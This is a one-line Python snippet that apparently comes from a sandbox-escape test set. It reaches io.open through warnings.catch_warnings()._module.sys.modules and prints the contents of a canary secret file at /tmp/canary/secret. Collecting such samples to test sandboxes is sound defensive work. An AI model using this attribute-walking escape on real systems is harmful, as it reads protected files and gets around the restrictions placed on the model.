# source: own
# effect: secret

import warnings

print(warnings.catch_warnings()._module.sys.modules["io"].open("/tmp/canary/secret").read())
